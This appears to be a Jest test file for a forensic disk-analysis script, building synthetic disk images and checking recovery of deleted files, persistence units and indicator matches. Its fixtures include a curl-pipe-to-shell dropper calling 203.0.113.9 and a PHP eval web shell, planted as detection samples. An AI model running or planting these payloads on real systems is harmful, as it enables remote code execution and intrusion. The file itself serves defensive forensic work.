import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { folderEvidence } from '../../core/adapters/evidence/folder-evidence';
import { bodyfileRows } from '../../core/analysis/disk/bodyfile';
import { parseFls } from '../../core/analysis/disk/fls';
import { parseFsstat } from '../../core/analysis/disk/fsstat';
import { deletedWhileOpen, parseIls } from '../../core/analysis/disk/ils';
import { ext4Image, gptDisk, inodeAt, mbrDisk, shell } from '../support/disk-image';
import { testWith } from '../support/sleuth-kit';

const SCRIPT = join(__dirname, '..', '..', 'runbooks', 'scripts', 'analyse-disk.sh');
const NEEDS = ['fls', 'mkfs.ext4', 'debugfs', 'blkid', 'strings'];
/** Mounting needs root, and a kernel that has loop devices and XFS. */
const canMount = process.getuid?.() === 0 && existsSync('/dev/loop-control');

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'cordon-disk-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

interface Analysed {
  readonly code: number | null;
  readonly said: string;
  readonly out: string;
  text(name: string): string;
}

function analyse(images: readonly string[], environment: Readonly<Record<string, string>> = {}): Analysed {
  const out = join(folder, 'out');
  const env = { ...process.env, CORDON_HASH_SECONDS: '60', ...environment };
  const ran = spawnSync('bash', [SCRIPT, out, ...images], { encoding: 'utf8', env });
  return {
    code: ran.status,
    said: ran.stderr,
    out,
    text: (name) => (existsSync(join(out, name)) ? readFileSync(join(out, name), 'utf8') : ''),
  };
}

function sha256(content: Buffer | string): string {
  return createHash('sha256').update(content).digest('hex');
}

async function paths(out: string): Promise<readonly string[]> {
  const file = await folderEvidence({ disk: out }).open('disk/bodyfile.txt');
  const found: string[] = [];
  if (file !== undefined)
    for await (const row of bodyfileRows(file, (issue) => found.push(issue.problem))) found.push(row.path);
  return found;
}

const places = (analysed: Analysed): readonly string[][] =>
  analysed
    .text('filesystems.tsv')
    .trim()
    .split('\n')
    .slice(1)
    .map((line) => line.split('\t'));

const recovered = (analysed: Analysed): ReadonlyMap<string, readonly string[]> =>
  new Map(
    analysed
      .text('recovered/index.tsv')
      .trim()
      .split('\n')
      .map((line) => line.split('\t'))
      .map((columns) => [columns[5] === '-' ? `inode ${columns[1]}` : (columns[5] ?? ''), columns]),
  );

const SYSTEM = {
  'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n',
  'etc/os-release': 'ID=example\n',
  'etc/fstab': 'LABEL=data /srv/data ext4 defaults 0 2\n',
  'usr/bin/x-tool': 'a tool\n',
};
const DROPPER = '#!/bin/sh\ncurl http://203.0.113.9/p | sh\n';
const SHELL = '<?php eval($_POST["c"]);\n';
const MINER = Buffer.alloc(300_000, 'not a miner ');

describe('the disk runbook', () => {
  testWith(NEEDS)('names the programs that no package brought, and reads what starts programs wherever it lies', () => {
    const owned = Array.from({ length: 120 }, (_, at) => `/usr/share/base/f${at}`);
    const unit = '[Service]\nExecStart=/usr/sbin/x-stray\n';
    const later = Math.floor(Date.now() / 1000) + 86_400;
    writeFileSync(join(folder, 'other'), 'something else\n');
    ext4Image(folder, 'root', {
      debugfs: [
        'rm /usr/bin/x-other',
        'cd /usr/bin',
        `write ${join(folder, 'other')} x-other`,
        ...['whole', 'other'].map((name) => `sif /usr/bin/x-${name} ctime @${later}`),
      ],
      files: {
        ...SYSTEM,
        'usr/sbin/x-stray': 'ELF',
        'usr/lib/systemd/system/stray.service': unit,
        'home/app/.config/systemd/user/sync.timer': '[Timer]\nOnCalendar=hourly\n',
        'etc/crontabs/root': '* * * * * /usr/sbin/x-stray\n',
        // Older packages name /bin what lies in /usr/bin.
        'usr/bin/x-whole': 'as packed\n',
        'usr/bin/x-other': 'as packed\n',
        'var/lib/dpkg/info/base.md5sums': ['x-whole', 'x-other']
          .map((name) => `${createHash('md5').update('as packed\n').digest('hex')}  usr/bin/${name}\n`)
          .join(''),
        'var/lib/dpkg/info/base.list': ['/.', '/bin/x-tool', '/usr/bin/x-whole', '/usr/bin/x-other', ...owned].join(
          '\n',
        ),
      },
    });
    const analysed = analyse([join(folder, 'root.ext4')]);
    expect(analysed.text('altered.txt').split('\t')[0]).toBe('/usr/bin/x-other');
    expect(analysed.text('altered.txt').trim().split('\n')).toHaveLength(1);
    expect(analysed.text('unowned.txt')).toBe('/usr/lib/systemd/system/stray.service\n/usr/sbin/x-stray\n');
    const kept = [...recovered(analysed).keys()];
    expect(kept).toEqual(
      expect.arrayContaining([
        '/usr/lib/systemd/system/stray.service',
        '/home/app/.config/systemd/user/sync.timer',
        '/etc/crontabs/root',
      ]),
    );
  });

  testWith(NEEDS)('reads a GPT disk at an odd offset: live, deleted and deleted-while-open files', async () => {
    const files = {
      ...SYSTEM,
      'tmp/.x/dropper.sh': DROPPER,
      'tmp/pipe|name': 'x',
      'tmp/gone.txt': 'was here\n',
      'tmp/miner': MINER,
      'var/www/html/up/c.php': SHELL,
      'root/.ssh/authorized_keys': 'ssh-ed25519 AAAA x\n',
    };
    ext4Image(folder, 'root', { files });
    const miner = inodeAt(folder, 'root', '/tmp/miner');
    const gone = inodeAt(folder, 'root', '/tmp/gone.txt');
    const root = ext4Image(folder, 'root', {
      files,
      debugfs: [
        'rm /tmp/gone.txt',
        'unlink /tmp/miner',
        `sif <${miner}> links_count 0`,
        `ssv last_orphan ${miner}`,
        'feature needs_recovery',
      ],
    });
    const image = join(folder, 'gpt.raw');
    gptDisk(image, 48, [
      { start: 2048, content: Buffer.alloc(1024 * 512, 0x90) },
      { start: 4097, content: root },
    ]);
    const before = sha256(readFileSync(image));
    const analysed = analyse([image]);
    expect(analysed.code).toBe(0);

    expect(places(analysed).map((row) => [row[0], row[3], row[6]])).toEqual([
      ['1-000', '2048', 'none'],
      ['1-001', '4097', 'tsk'],
    ]);
    expect(await paths(analysed.out)).toEqual(
      expect.arrayContaining(['/tmp/.x/dropper.sh', '/tmp/pipe|name', '/var/www/html/up/c.php']),
    );
    const evidence = folderEvidence({ disk: analysed.out });
    const open = async (name: string) => (await evidence.open(`disk/${name}`))!;
    const deleted = await parseFls(await open('fls-rd-p.txt'));
    expect(deleted.rows.map((row) => [row.path, row.inode])).toContainEqual(['tmp/gone.txt', gone]);
    const fsstat = await parseFsstat(await open('fsstat.txt'));
    expect(fsstat.rows[0]).toMatchObject({ needsRecovery: true, orphans: [{ inode: miner }] });
    const ils = await parseIls(await open('ils-e-orphans.txt'));
    expect(deletedWhileOpen(ils.rows).map((row) => row.inode)).toEqual([miner]);

    const contents = recovered(analysed);
    expect(contents.get(`inode ${miner}`)?.slice(2, 5)).toEqual([
      String(MINER.length),
      sha256(MINER),
      'deleted-while-open',
    ]);
    expect(contents.get('/tmp/.x/dropper.sh')?.[3]).toBe(sha256(DROPPER));
    expect(contents.get('/var/www/html/up/c.php')?.[3]).toBe(sha256(SHELL));
    expect(contents.get('tmp/gone.txt')?.[4]).toBe('deleted');
    // The image is as it was.
    expect(sha256(readFileSync(image))).toBe(before);
    expect(analysed.text('sha256.txt')).toContain(before);
  });

  testWith(NEEDS)('reads a disk without a partition table, and a clean one yields nothing deleted', async () => {
    const image = join(folder, 'whole.raw');
    writeFileSync(image, ext4Image(folder, 'root', { files: SYSTEM }));
    const analysed = analyse([image]);
    expect(analysed.code).toBe(0);
    // No package keeps a list there: whose the programs are is not said.
    expect(existsSync(join(analysed.out, 'unowned.txt'))).toBe(false);
    expect(places(analysed).map((row) => row.slice(3))).toEqual([['0', '49152', 'ext4', 'tsk']]);
    expect(analysed.text('fls-rd-p.txt')).toBe('');
    expect([...recovered(analysed).keys()].sort()).toEqual(['/etc/passwd']);
    expect(existsSync(join(analysed.out, 'fs'))).toBe(false);
  });

  testWith(NEEDS)('puts the files of several MBR partitions and disks where they were mounted', async () => {
    const first = join(folder, 'mbr.raw');
    const second = join(folder, 'data.raw');
    const varLog = ext4Image(folder, 'var', {
      files: { 'log/auth.log': 'accepted\n' },
      megabytes: 16,
      lastMounted: '/var',
    });
    mbrDisk(first, 64, [
      { start: 2048, content: varLog },
      { start: 40960, content: ext4Image(folder, 'root', { files: SYSTEM }) },
    ]);
    writeFileSync(second, ext4Image(folder, 'data', { files: { 'shop/db.sql': 'x' }, megabytes: 16, label: 'data' }));
    const analysed = analyse([first, second]);
    expect(analysed.code).toBe(0);
    expect(await paths(analysed.out)).toEqual(
      expect.arrayContaining(['/etc/passwd', '/var/log/auth.log', '/srv/data/shop/db.sql']),
    );
    expect(analysed.text('mmls.txt')).toContain('DOS Partition Table');
    expect(analysed.text('fs/1-000-000/fls-r-p.txt')).toContain('log/auth.log');
    expect(analysed.text('fs/2-whole/fls-r-p.txt')).toContain('shop/db.sql');
  });

  testWith([...NEEDS, 'pvck'])('finds a logical volume by its metadata, without activating it', async () => {
    const root = ext4Image(folder, 'root', { files: SYSTEM });
    const image = join(folder, 'lvm.raw');
    gptDisk(image, 64, [{ start: 2048, content: physicalVolume(root) }]);
    const analysed = analyse([image]);
    expect(places(analysed).map((row) => [row[0], row[5], row[6]])).toEqual([
      ['1-000-root', 'ext4', 'tsk'],
      ['1-000-wide', 'volume in 2 pieces', 'none'],
      ['1-000', 'LVM2_member', 'none'],
    ]);
    expect(await paths(analysed.out)).toContain('/usr/bin/x-tool');
  });

  const withMount = canMount ? testWith([...NEEDS, 'mkfs.xfs', 'losetup']) : testWith(['loop devices and root']);
  withMount('reads XFS, which the Sleuth Kit cannot, through a read-only mount', async () => {
    const image = join(folder, 'xfs.raw');
    writeFileSync(image, '');
    truncateSync(image, 320 * 1024 * 1024);
    shell('mkfs.xfs', ['-q', image]);
    const mounted = join(folder, 'mnt');
    shell('sh', [
      '-c',
      `mkdir ${mounted} && mount -o loop ${image} ${mounted} && mkdir -p ${mounted}/etc ${mounted}/tmp &&
      echo ID=example > ${mounted}/etc/os-release && printf x > '${mounted}/tmp/a|b' && printf '#!/bin/sh\n' > ${mounted}/tmp/d.sh &&
      chmod 4755 ${mounted}/tmp/d.sh && ln -s /etc/passwd ${mounted}/tmp/link; umount ${mounted}`,
    ]);
    const before = sha256(readFileSync(image));
    const analysed = analyse([image]);
    expect(analysed.code).toBe(0);
    expect(places(analysed).map((row) => row.slice(5))).toEqual([['xfs', 'mount']]);
    expect(await paths(analysed.out)).toEqual(expect.arrayContaining(['/tmp/a|b', '/tmp/d.sh', '/tmp/link']));
    expect(analysed.text('bodyfile.txt')).toMatch(/\|\/tmp\/d\.sh\|\d+\|r\/rrwsr-xr-x\|0\|0\|10\|1\d{9}\|/);
    expect(analysed.text('bodyfile.txt')).toContain('/tmp/link -> /etc/passwd|');
    expect(analysed.text('fls-r-p.txt')).toMatch(/^l\/l \d+:\ttmp\/link$/m);
    expect(analysed.text('fsstat.txt')).toContain('not the Sleuth Kit');
    expect(recovered(analysed).get('/tmp/d.sh')?.[3]).toBe(sha256('#!/bin/sh\n'));
    expect(sha256(readFileSync(image))).toBe(before);
    expect(shell('losetup', ['-a'])).not.toContain(image);
  });

  testWith(NEEDS)('names an encrypted volume for what it is, and reads the rest', () => {
    const image = join(folder, 'luks.raw');
    const header = Buffer.alloc(8 * 1024 * 1024);
    header.write('LUKS\xba\xbe', 0, 'latin1');
    header.writeUInt16BE(1, 6);
    header.write('7f2c9a4e-0000-4000-8000-000000000001', 168, 'latin1');
    gptDisk(image, 64, [
      { start: 2048, content: header },
      { start: 20480, content: ext4Image(folder, 'root', { files: SYSTEM }) },
    ]);
    const analysed = analyse([image]);
    expect(analysed.code).toBe(0);
    expect(places(analysed).map((row) => row.slice(5))).toEqual([
      ['crypto_LUKS', 'none'],
      ['ext4', 'tsk'],
    ]);
  });

  testWith([...NEEDS, 'mkfs.btrfs'])(
    'reads Btrfs where the kernel can, and otherwise says that it was not mounted',
    () => {
      const image = join(folder, 'btrfs.raw');
      writeFileSync(image, '');
      truncateSync(image, 160 * 1024 * 1024);
      shell('mkfs.btrfs', ['-q', image]);
      const [row = []] = places(analyse([image]));
      expect(row[5]).toBe('btrfs');
      expect(['mount', 'not-mounted']).toContain(row[6]);
    },
  );

  testWith(NEEDS)('records each command with its exit code and time, and hashes each output', () => {
    const image = join(folder, 'whole.raw');
    writeFileSync(image, ext4Image(folder, 'root', { files: SYSTEM }));
    const analysed = analyse([image]);
    const commands = analysed
      .text('_commands.tsv')
      .trim()
      .split('\n')
      .map((line) => line.split('\t'));
    expect(commands.map((row) => row[0])).toEqual(
      expect.arrayContaining(['mmls.txt', 'fsstat.txt', 'fls-r-p.txt', 'jls.txt']),
    );
    expect(commands.find((row) => row[0] === 'mmls.txt')?.[2]).toBe('1');
    for (const line of analysed.text('_sha256.txt').trim().split('\n')) {
      const [hash, name = ''] = line.split('  ');
      expect(sha256(readFileSync(join(analysed.out, name)))).toBe(hash);
    }
  });

  testWith(NEEDS)('finds telling text and named indicators in unallocated space', () => {
    const image = join(folder, 'whole.raw');
    const files = {
      ...SYSTEM,
      'tmp/a.sh': DROPPER.repeat(3),
      'tmp/b': 'beacon to evil.example now\n',
      'tmp/c': 'harmless words\n',
    };
    writeFileSync(image, ext4Image(folder, 'root', { files, debugfs: ['rm /tmp/a.sh', 'rm /tmp/b', 'rm /tmp/c'] }));
    const found = analyse([image], { CORDON_INDICATORS: 'evil.example' }).text('blkls-unalloc.strings.txt');
    expect(found).toContain('curl http://203.0.113.9/p');
    expect(found).toContain('beacon to evil.example');
    expect(found).not.toContain('harmless');
  });

  testWith([...NEEDS, 'yara'])(
    'runs the YARA rules of the repository over what it recovered and, where it can mount, all',
    () => {
      const image = join(folder, 'whole.raw');
      writeFileSync(
        image,
        ext4Image(folder, 'root', { files: { ...SYSTEM, 'tmp/d.sh': DROPPER, 'home/a/c.php': SHELL } }),
      );
      const analysed = analyse([image], { CORDON_YARA_RULES: join(SCRIPT, '..', '..', 'yara') });
      expect(analysed.text('yara-recovered-reverse-shells.txt')).toMatch(/^download_and_run \/inode-\d+\.bin$/m);
      if (canMount) expect(analysed.text('yara-web-shells.txt')).toMatch(/^php_runs_request \/home\/a\/c\.php$/m);
    },
  );

  testWith(NEEDS)('uploads every output under its final name, the large ones gzipped', () => {
    const image = join(folder, 'whole.raw');
    writeFileSync(image, ext4Image(folder, 'root', { files: SYSTEM }));
    // Stands in for the AWS command line: writes down where each file would go.
    const uploads = join(folder, 'uploads');
    writeFileSync(join(folder, 'aws'), `#!/bin/sh\nfor last; do :; done\necho "$last" >> ${uploads}\n`, {
      mode: 0o755,
    });
    const analysed = analyse([image], {
      CORDON_S3: 's3://bucket/at/',
      CORDON_GZIP_ABOVE: '600',
      PATH: `${folder}:${process.env.PATH}`,
    });
    const made = shell('find', [analysed.out, '-type', 'f', '-printf', 's3://bucket/at/%P\n'])
      .trim()
      .split('\n')
      .sort();
    const sent = readFileSync(uploads, 'utf8').trim().split('\n').sort();
    expect(sent.filter((name, index) => name !== sent[index - 1])).toEqual(made);
    expect(made).toContain('s3://bucket/at/bodyfile.txt.gz');
  });

  testWith(NEEDS)('says what it found when no file system can be read', () => {
    const image = join(folder, 'zeros.raw');
    writeFileSync(image, Buffer.alloc(1 << 20));
    const analysed = analyse([image]);
    expect(analysed.code).toBe(1);
    expect(analysed.said).toContain('no file system could be read');
    expect(places(analysed).map((row) => row[5])).toEqual(['unknown']);
    expect(analyse([]).code).toBe(2);
  });
});

const EXTENT_SECTORS = 8192;
const FIRST_EXTENT = 2048;

/** An LVM physical volume, label and text metadata written by hand: a kernel without device mapper cannot make one. */
function physicalVolume(root: Buffer): Buffer {
  const extents = Math.ceil(root.length / 512 / EXTENT_SECTORS);
  const volume = (name: string, segments: string, count: number): string =>
    `${name} {\nid = "${'a'.repeat(6)}-bbbb-cccc-dddd-eeee-ffff-gggggg"\nstatus = ["READ", "WRITE", "VISIBLE"]\nflags = []\nsegment_count = ${count}\n${segments}}\n`;
  const segment = (number: number, first: number, count: number, at: number): string =>
    `segment${number} {\nstart_extent = ${first}\nextent_count = ${count}\n\ntype = "striped"\nstripe_count = 1\n\nstripes = [\n"pv0", ${at}\n]\n}\n`;
  const metadata = `vg0 {
id = "HWvKud-IhMg-8CQG-1ryF-mzgm-HY44-QOEKiF"
seqno = 2
format = "lvm2"
status = ["RESIZEABLE", "READ", "WRITE"]
flags = []
extent_size = ${EXTENT_SECTORS}
max_lv = 0
max_pv = 0
metadata_copies = 0

physical_volumes {

pv0 {
id = "8fIKGO-UdUh-UCh3-M4Qt-A8cH-lbXo-sC9mFm"
device = "/dev/xvda1"
status = ["ALLOCATABLE"]
flags = []
dev_size = 131072
pe_start = ${FIRST_EXTENT}
pe_count = ${extents + 3}
}
}

logical_volumes {

${volume('root', segment(1, 0, extents, 1), 1)}${volume('wide', segment(1, 0, 1, 0) + segment(2, 1, 1, extents + 1), 2)}}

}
# Generated by LVM2
contents = "Text Format Volume Group"
version = 1
\0`;
  return assemblePhysicalVolume(metadata, root, extents);
}

/** Layout of lvm2's on-disk format: label in sector 1, its metadata area from 4096 to the first extent. */
function assemblePhysicalVolume(metadata: string, root: Buffer, extents: number): Buffer {
  const bytes = Buffer.alloc((FIRST_EXTENT + (extents + 3) * EXTENT_SECTORS) * 512);
  const label = bytes.subarray(512, 1024);
  label.write('LABELONE', 0, 'latin1');
  label.writeBigUInt64LE(1n, 8);
  label.writeUInt32LE(32, 20);
  label.write('LVM2 001', 24, 'latin1');
  label.write('8fIKGOUdUhUCh3M4QtA8cHlbXosC9mFm', 32, 'latin1');
  label.writeBigUInt64LE(BigInt(bytes.length), 64);
  label.writeBigUInt64LE(BigInt(FIRST_EXTENT * 512), 72);
  label.writeBigUInt64LE(4096n, 104);
  label.writeBigUInt64LE(BigInt(FIRST_EXTENT * 512 - 4096), 112);
  label.writeUInt32LE(lvmCrc(label.subarray(20)), 16);
  const header = bytes.subarray(4096, 4608);
  header.write(' LVM2 x[5A%r0N*>', 4, 'latin1');
  header.writeUInt32LE(1, 20);
  header.writeBigUInt64LE(4096n, 24);
  header.writeBigUInt64LE(BigInt(FIRST_EXTENT * 512 - 4096), 32);
  header.writeBigUInt64LE(512n, 40);
  header.writeBigUInt64LE(BigInt(metadata.length), 48);
  header.writeUInt32LE(lvmCrc(Buffer.from(metadata, 'latin1')), 56);
  header.writeUInt32LE(lvmCrc(header.subarray(4)), 0);
  bytes.write(metadata, 4608, 'latin1');
  root.copy(bytes, (FIRST_EXTENT + EXTENT_SECTORS) * 512);
  return bytes;
}

/** CRC-32 as LVM uses it: reflected polynomial 0xedb88320, started with 0xf597a6cf and not inverted at the end. */
function lvmCrc(bytes: Uint8Array): number {
  let crc = 0xf597a6cf;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return crc >>> 0;
}
